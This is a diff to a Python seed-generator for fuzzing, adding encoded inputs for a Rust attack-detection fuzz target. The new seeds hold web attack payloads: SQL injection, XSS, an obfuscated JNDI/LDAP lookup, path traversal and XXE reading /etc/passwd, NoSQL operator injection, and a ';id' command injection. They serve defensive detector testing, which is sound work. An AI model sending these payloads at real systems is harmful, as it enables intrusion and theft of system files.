@@ -306,6 +306,28 @@ def http_parser_seeds():
         write("http_parser", name, data)
 
 
+def detect_input(target, headers, content_type, body, status=200, response=b"{}", paranoia=1):
+    """The fuzz/fuzz_targets/detect.rs `Input`: level, bounds (even: the defaults), a spare
+    byte, content type (index into CONTENT_TYPES), target, headers, body, then an optional
+    status, response type and body."""
+    hs = vec([payload(n) + payload(v) for n, v in headers])
+    return (bytes([paranoia, 200, 255, content_type]) + payload(target) + hs + payload(body)
+            + b"\x01" + u16(status) + bytes([5]) + payload(response))
+
+
+def detect_seeds():
+    for name, data in [
+        ("sqli-query", detect_input(b"/search?q=1%27%20OR%20%271%27%3D%271", [], 7, b"")),
+        ("xss-json", detect_input(b"/r", [(b"User-Agent", b"okhttp/4.12.0")], 0, b'{"t":"<img src=x onerror=alert(1)>"}')),
+        ("jndi-header", detect_input(b"/", [(b"X-Api-Version", b"${${lower:j}ndi:ldap://x/a}")], 7, b"")),
+        ("multipart", detect_input(b"/u", [], 2, b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../etc/passwd\"\r\n\r\nx\r\n--b--\r\n")),
+        ("xxe", detect_input(b"/i", [], 3, b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')),
+        ("graphql", detect_input(b"/graphql", [], 0, b'{"query":"{ user(name: \\"x\\") { id } }","variables":{"a":{"$ne":1}}}')),
+        ("form-error", detect_input(b"/f", [(b"Cookie", b"a=%3Cscript%3E; b=1")], 1, b"url=http%3A%2F%2F127.1%2F&c=;id", 500, b"You have an error in your SQL syntax")),
+    ]:
+        write("detect", name, data)
+
+
 def reassembly_seeds():
     # Input: max_ooo_bytes_per_stream u8, max_ooo_bytes_total u8, ops (rest).
     # Endpoint indexes: 0 = 10.0.0.1:40000, 2 = 10.0.0.2:80.
@@ -449,6 +471,7 @@ def main():
     websocket_seeds()
     tls_hello_seeds()
     h2_seeds()
+    detect_seeds()
     total = 0
     for d, _, files in os.walk(SEEDS):
         total += sum(os.path.getsize(os.path.join(d, f)) for f in files)
